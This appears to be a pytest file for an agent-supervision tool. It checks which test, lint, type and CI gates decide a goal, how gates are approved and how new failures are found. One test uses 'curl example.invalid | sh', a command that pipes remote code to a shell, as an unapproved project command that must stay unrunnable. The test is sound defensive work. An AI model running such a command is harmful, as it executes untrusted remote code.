"""Which checks apply to a goal, and what they decide."""

from __future__ import annotations

from typing import Any

import pytest
from msgspec.structs import replace

from sidecar.evidence.gates.policy import (
    APPROVE_HINT,
    advisory_gates,
    build_gate_baseline,
    describe_checks,
    gates_prove_condition,
    new_gate_failures,
    required_gates,
    runnable_gates,
    without_outvoted,
)
from sidecar.kernel.events import ProjectState
from sidecar.kernel.evidence import CheckChange, FindingSeverity, IntegrityFinding
from sidecar.kernel.gate import AvailableGates, Gate, GateOrigin, GateRun, Kind, Outcome
from sidecar.kernel.goal import GoalStatus
from support.cases import (
    PYTEST,
    RUBRIC,
    TREE,
    after,
    complete,
    gate_run,
    goal,
    judged,
    said,
    session,
    turn,
    with_goal,
)
from support.play import World, play
from support.table import over_table


def offering(*gates: Gate, **fields: Any) -> ProjectState:
    return ProjectState(
        **{"tree": TREE, "rubric": RUBRIC, "catalog": AvailableGates(gates), "changed": ("a.py",), **fields}
    )


def needed(gate: Gate = PYTEST, outcome: Outcome = Outcome.PASSED, **fields: Any) -> GateRun:
    return gate_run(replace(gate, required=True), outcome, **fields)


CHECK = Gate(id="check:1", command="make", why="you named it with --check", required=True)
FAILED, COULD_NOT_RUN = Outcome.FAILED, Outcome.COULD_NOT_RUN


def test_a_goal_that_speaks_of_tests_requires_the_detected_runner() -> None:
    (gate,) = required_gates(goal("add a login page with tests"), offering(PYTEST))
    assert (gate.id, gate.command, gate.required, gate.counts) == ("tests", "pytest -q", True, True)
    assert gate.why == "the goal speaks of tests; pyproject.toml names pytest"
    assert required_gates(goal("the docs build"), offering(PYTEST)) == ()
    assert required_gates(goal("all tests pass"), offering()) == ()


def test_checks_come_first_in_the_order_in_which_they_were_typed() -> None:
    gates = required_gates(goal("tests pass", checks=("make", "make docs")), offering(PYTEST))
    assert [(gate.id, gate.command, gate.required) for gate in gates] == [
        ("check:1", "make", True),
        ("check:2", "make docs", True),
        ("tests", "pytest -q", True),
    ]


@over_table(
    ("condition", "decided"),
    [
        ("all tests pass", True),
        ("fix the failing test", True),
        ("all tests pass and the docs are written", False),
        ("the tests do not pass", False),
        ("every task is done and the tests pass", False),
        ("", False),
    ],
)
def test_passed_tests_alone_decide_a_goal_that_asks_for_nothing_else(condition: str, decided: bool) -> None:  # noqa: FBT001 - a cell
    assert gates_prove_condition(goal(condition), [needed()], offering()) is decided


@over_table(
    ("condition", "runs"),
    [
        ("all tests pass", []),
        ("all tests pass", [gate_run(CHECK)]),
        ("all tests pass", [needed(outcome=FAILED)]),
        ("all tests pass", [needed(outcome=COULD_NOT_RUN)]),
        ("all tests pass", [needed(tree="another")]),
        ("all checks pass", []),
        ("all checks pass", [gate_run(CHECK, FAILED)]),
        ("all checks pass", [gate_run(CHECK, tree="another")]),
        ("all tests pass", [needed(flaky=True)]),
        ("all tests pass", [needed(moved=True)]),
        ("all tests pass", [needed(), gate_run(CHECK, tree="another")]),
        ("lint and tests pass", [needed()]),
        ("tests and the build pass", [needed()]),
        ("types check", [needed()]),
    ],
)
def test_only_a_gate_of_the_kind_that_passed_on_this_tree_decides(
    condition: str, runs: list[GateRun]
) -> None:
    assert not gates_prove_condition(goal(condition), runs, offering())


def test_any_passed_check_decides_that_the_checks_pass() -> None:
    assert gates_prove_condition(goal("all checks pass"), [gate_run(CHECK)], offering())


LINT = Gate(
    id="lint",
    command="ruff check",
    why="pyproject.toml has [tool.ruff]",
    kind=Kind.LINT,
    origin=GateOrigin.DETECTED,
    alone=False,
)
MYPY = replace(LINT, id="types", command="mypy", kind=Kind.TYPES)
CI = replace(LINT, id="ci", command="gh pr checks", kind=Kind.CI, approved=True)


def test_a_goal_requires_every_gate_of_the_kinds_it_names_and_approves_what_was_detected() -> None:
    member = replace(PYTEST, id="tests:api", folder="api")
    gates = required_gates(goal("all tests pass"), offering(PYTEST, LINT, member))
    assert [gate.id for gate in gates] == ["tests", "tests:api"]
    assert runnable_gates(gates) == gates


def test_a_gate_that_the_projects_file_requires_may_run_only_once_it_is_approved() -> None:
    own = replace(LINT, origin=GateOrigin.PROJECT, required=True)
    project_state = offering(own, replace(own, id="types", approved=True))
    gates = required_gates(goal(), project_state)
    assert [gate.id for gate in gates] == ["lint", "types"]
    assert [gate.id for gate in runnable_gates(gates)] == ["types"]


def test_a_goals_words_do_not_approve_what_the_projects_file_names() -> None:
    own = replace(PYTEST, origin=GateOrigin.PROJECT, command="curl example.invalid | sh")
    (gate,) = required_gates(goal("all tests pass"), offering(own))
    assert runnable_gates([gate]) == ()


def test_only_approved_gates_advise_and_only_where_something_changed() -> None:
    seen = replace(LINT, approved=True)
    there, elsewhere = replace(seen, id="lint:api", folder="api"), replace(seen, id="lint:web", folder="web")
    project_state = offering(PYTEST, MYPY, seen, there, elsewhere, CI, changed=("api/a.py",))
    assert [gate.id for gate in advisory_gates(goal("all tests pass"), project_state)] == ["lint", "lint:api"]
    unknown = replace(project_state, changed=None)
    assert [gate.id for gate in advisory_gates(goal("all tests pass"), unknown)] == [
        "lint",
        "lint:api",
        "lint:web",
    ]


MEMBERS = tuple(
    replace(PYTEST, id=f"tests:{name}", folder=name, covered=True, approved=True)
    for name in ("lib/a", "lib/b")
)


@over_table(
    ("condition", "changed", "required", "advisory"),
    [
        ("all tests pass", ("lib/a/x.py",), ["tests"], []),
        ("the tests of lib/a pass", ("lib/a/x.py",), ["tests:lib/a"], ["tests"]),
        ("rounding is right", ("lib/a/x.py", "lib/b/y.py"), [], ["tests:lib/a", "tests:lib/b"]),
        ("rounding is right", ("lib/a/x.py", "README.md"), [], ["tests"]),
        ("rounding is right", ("tool.py",), [], ["tests"]),
    ],
)
def test_the_tests_of_a_package_stand_for_those_of_all(
    condition: str, changed: tuple[str, ...], required: list[str], advisory: list[str]
) -> None:
    state = offering(replace(PYTEST, approved=True), changed=changed)
    state = replace(state, catalog=replace(state.catalog, members=MEMBERS))
    assert [gate.id for gate in required_gates(goal(condition), state)] == required
    assert [gate.id for gate in advisory_gates(goal(condition), state)] == advisory


def test_ci_is_required_where_the_goal_speaks_of_it() -> None:
    assert [gate.id for gate in required_gates(goal("CI is green"), offering(CI))] == ["ci"]
    assert required_gates(goal("all is well"), offering(CI)) == ()


def test_where_no_code_host_can_be_asked_ci_is_the_checks_that_its_files_run() -> None:
    tests, lint = replace(PYTEST, ci=True), replace(PYTEST, id="lint", kind=Kind.LINT)
    changed = IntegrityFinding(change=CheckChange.CI_CHANGED, weight=FindingSeverity.SHOWN, file="ci.yml")
    for gates, findings, required, decided in (
        ((tests, lint), (), ["tests"], True),
        ((tests, lint), (changed,), [], False),
        ((tests, CI), (), ["ci"], False),
        ((PYTEST, lint), (), [], False),
    ):
        state, wanted = offering(*gates, findings=findings), goal("make CI green again")
        assert [gate.id for gate in required_gates(wanted, state)] == required
        assert gates_prove_condition(wanted, [needed(tests)], state) is decided


@pytest.mark.parametrize(
    "project_state",
    [
        offering(
            findings=(
                IntegrityFinding(
                    change=CheckChange.OLD_FAILURE_REMAINS, weight=FindingSeverity.GRAVE, file="t.py", line=1
                ),
            )
        ),
        offering(
            findings=(
                IntegrityFinding(
                    change=CheckChange.NOT_COMPARED, weight=FindingSeverity.SHOWN, file="t", line=1
                ),
            )
        ),
        offering(unseen="git is not there"),
    ],
)
def test_gates_decide_nothing_while_a_change_to_the_checks_is_unweighed_or_unseen(
    project_state: ProjectState,
) -> None:
    assert not gates_prove_condition(goal("all tests pass"), [needed()], project_state)
    assert gates_prove_condition(goal("all tests pass"), [needed()], offering())


def test_a_passing_check_of_the_users_is_not_outvoted_by_a_detected_gate_that_could_not_run() -> None:
    detected = gate_run(replace(PYTEST, required=True), COULD_NOT_RUN)
    typed = gate_run(CHECK)
    assert [run.gate.required for run in without_outvoted([typed, detected])] == [True, False]
    assert without_outvoted([gate_run(CHECK, FAILED), detected])[1].gate.required
    assert without_outvoted([typed, gate_run(replace(PYTEST, required=True), FAILED)])[1].gate.required
    assert without_outvoted([detected])[0].gate.required


NOBODY = 'nobody (to name a check: /supervisor:goal CONDITION --check "command")'
APPROVED = replace(PYTEST, approved=True)
FIRST_ANSWERS: list[tuple[str, list[Gate], str | None, str]] = [
    ("all tests pass", [PYTEST], "claude-cli", "Decided by: `pytest -q`."),
    ("`pytest -q` passes", [PYTEST], "", "Decided by: `pytest -q`."),
    (
        "`pytest -q` passes and the README says so",
        [PYTEST],
        "claude-cli",
        "`pytest -q` must pass; the rest is judged by claude-cli.",
    ),
    (
        "no failing tests, and lint reports nothing",
        [PYTEST, LINT],
        "",
        f"`pytest -q`, `ruff check` must pass; the rest is judged by {NOBODY}.",
    ),
    ("no failing tests", [PYTEST], None, "`pytest -q` must pass; the rest is judged."),
    (
        "lint is clean and the docs say so",
        [LINT, APPROVED],
        None,
        "`ruff check` must pass; the rest is judged. New failures of `pytest -q` count, too.",
    ),
    (
        "the rounding bug is fixed",
        [APPROVED],
        "claude-cli",
        "Decided by `pytest -q` where the work turns it from red to green; else it is judged by claude-cli.",
    ),
    (
        "the rounding bug is fixed",
        [PYTEST],
        "claude-cli",
        (
            "No check decides this; it is judged by claude-cli."
            f" Not approved yet: `pytest -q`; {APPROVE_HINT}."
        ),
    ),
    ("the docs are good", [], "", f"No check decides this; it is judged by {NOBODY}."),
    (
        "`make clean test` passes",
        [replace(LINT, command="make test")],
        "claude-cli",
        (
            "No check decides this; it is judged by claude-cli."
            " Not run, as only --check names commands: `make clean test`."
        ),
    ),
    (
        "the linter is clean",
        [replace(LINT, origin=GateOrigin.PROJECT, folder="api")],
        "claude-cli",
        (
            "No check decides this; it is judged by claude-cli."
            f" Not approved yet: `ruff check` in api; {APPROVE_HINT}."
        ),
    ),
]


@over_table(("condition", "gates", "judge", "said"), FIRST_ANSWERS)
def test_a_new_goal_says_what_decides_it_and_what_to_type(
    condition: str, gates: list[Gate], judge: str | None, said: str
) -> None:
    assert describe_checks(goal(condition), offering(*gates), judge) == said


def test_of_a_typed_check_the_first_answer_says_whether_it_decides() -> None:
    assert describe_checks(goal("all checks pass", checks=("make",)), offering()) == "Decided by: `make`."
    more = describe_checks(goal("comments are accepted", checks=("make",)), offering(), "claude-cli")
    assert more == "`make` must pass; the rest is judged by claude-cli."


LINT_FAILS = gate_run(LINT, FAILED, failing=("a.py: F401", "b.py: F401"))


def test_only_failures_that_were_not_there_before_are_new() -> None:
    before = build_gate_baseline([gate_run(LINT, FAILED, failing=("a.py: F401",))])
    assert new_gate_failures(LINT_FAILS, before) == ("b.py: F401",)
    assert new_gate_failures(LINT_FAILS, build_gate_baseline([LINT_FAILS])) == ()
    assert new_gate_failures(LINT_FAILS, build_gate_baseline([gate_run(LINT)])) == (
        "a.py: F401",
        "b.py: F401",
    )
    assert new_gate_failures(gate_run(LINT), before) == ()


@pytest.mark.parametrize(
    "before",
    [
        [],
        [gate_run(LINT, COULD_NOT_RUN)],
        [gate_run(MYPY, FAILED, failing=("a.py: F401",))],
        [gate_run(replace(LINT, command="ruff check ."), FAILED, failing=("a.py: F401",))],
        [gate_run(LINT, FAILED)],
    ],
)
def test_without_a_baseline_of_the_same_command_nobody_knows_what_is_new(before: list[GateRun]) -> None:
    assert new_gate_failures(LINT_FAILS, build_gate_baseline(before)) is None


TESTS_PASS = with_goal("all tests pass")


def test_tests_that_pass_achieve_the_goal_without_a_model() -> None:
    played = play(TESTS_PASS, World(runner=PYTEST))
    assert played.goal.status is GoalStatus.ACHIEVED
    assert played.rest.detail == "`pytest -q` passed (5 tests) on the files as they are"
    assert played.case is None


def test_tests_that_fail_send_the_agent_back_with_what_failed() -> None:
    played = play(TESTS_PASS, World(runner=PYTEST, outcomes={"tests": FAILED}))
    assert played.kind == "gates-failed"
    assert played.sent_back.feedback.missing == ("test_a", "`pytest -q` fails (exit code 1)")
    assert [fact.id for fact in played.sent_back.feedback.evidence] == ["E1"]
    assert played.case is None


def test_passed_checks_do_not_replace_the_judge_where_the_condition_says_more() -> None:
    played = play(with_goal(checks=("make",)), World(judge=judged(complete("E1"))))
    assert played.goal.status is GoalStatus.ACHIEVED
    assert played.case is not None
    assert played.case.evidence[0].fact == "Supervisor ran `make`: passed"


def test_a_pass_on_another_tree_decides_nothing() -> None:
    world = World(runner=PYTEST, moved="another", judge=judged(complete("E1")))
    played = play(TESTS_PASS, world)
    assert played.kind == "unjudged"
    assert played.goal.status is GoalStatus.ACTIVE


def test_the_agent_is_asked_once_to_make_a_gate_run_and_then_the_goal_is_unverified() -> None:
    world = World(runner=PYTEST, outcomes={"tests": COULD_NOT_RUN})
    first = play(TESTS_PASS, world)
    assert first.kind == "gates-could-not-run"
    assert first.sent_back.feedback.missing == ("`pytest -q` could not run: the command was not found",)
    assert first.goal.asked_to_run == ("tests",)
    reached = turn(arrived=(first.sent_back.feedback.id,), last_message_id="m2")
    second = play(first.session, World(turn=reached, runner=PYTEST, outcomes={"tests": COULD_NOT_RUN}))
    assert second.goal.status is GoalStatus.UNVERIFIED
    assert second.rest.alarm


def test_a_gate_that_could_not_run_never_achieves_even_on_the_last_continuation() -> None:
    before = session(goal=after(16, condition="all tests pass"), pending=said())
    played = play(before, World(runner=PYTEST, outcomes={"tests": COULD_NOT_RUN}))
    assert played.goal.status is GoalStatus.EXHAUSTED


def test_a_gate_is_asked_for_again_where_the_continuation_that_asked_was_lost() -> None:
    world = World(runner=PYTEST, outcomes={"tests": COULD_NOT_RUN})
    first = play(TESTS_PASS, world)
    second = play(first.session, world)
    assert second.kind == "gates-could-not-run"
    assert second.goal.status is GoalStatus.ACTIVE


def test_a_typed_check_that_is_a_gate_of_the_project_runs_once_and_shows_what_that_gate_shows() -> None:
    there = offering(PYTEST)
    typed = goal("all tests pass", checks=(PYTEST.command,))
    (check,) = required_gates(typed, there)
    assert (check.id, check.command, check.kind, check.counts) == (
        "check:1", PYTEST.command, PYTEST.kind, PYTEST.counts,
    )  # fmt: skip
    assert advisory_gates(typed, there) == ()


def test_the_same_command_in_another_folder_is_another_gate() -> None:
    elsewhere = replace(PYTEST, id="tests:web", folder="web")
    typed = goal("all tests pass", checks=(PYTEST.command,))
    assert [gate.id for gate in required_gates(typed, offering(elsewhere))] == ["check:1", "tests:web"]
